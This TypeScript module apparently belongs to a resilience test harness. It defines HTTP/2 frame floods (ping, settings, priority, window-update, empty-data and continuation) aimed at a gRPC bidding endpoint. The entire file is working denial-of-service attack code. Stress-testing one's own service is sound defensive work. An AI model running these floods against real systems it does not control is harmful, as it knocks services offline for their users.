/** Frames that ask for nothing, as fast as they are taken. */
import type { Attack } from './attack.ts'
import { flood, times } from './flood.ts'
import { END_HEADERS, frame, headerBlock, requestHeaders } from './raw-http2.ts'

const PER_WRITE = 1_000

const someHeaders = headerBlock(
  requestHeaders('/bids.v1.BidService/PlaceBid', 'application/grpc+proto'),
)

function attackWith(name: string, one: Buffer, first?: Buffer): Attack {
  const bytes = times(PER_WRITE, one)
  return {
    name: `${name}-flood`,
    description: `HTTP/2 ${name} frames on 4 connections, as fast as they are taken`,
    run: (context) => flood(context, () => bytes, first),
  }
}

const openStream = frame('headers', END_HEADERS, 1, someHeaders)

export const frameFloods: readonly Attack[] = [
  attackWith('ping', frame('ping', 0, 0, Buffer.alloc(8))),
  attackWith('settings', frame('settings', 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))),
  attackWith('priority', frame('priority', 0, 1, Buffer.from([0, 0, 0, 3, 16]))),
  attackWith('window-update', frame('windowUpdate', 0, 0, Buffer.from([0, 0, 0, 1]))),
  attackWith('empty-data', frame('data', 0, 1), openStream),
  attackWith(
    'continuation',
    frame('continuation', 0, 1, headerBlock({ 'x-more': 'and more' })),
    frame('headers', 0, 1, someHeaders),
  ),
]
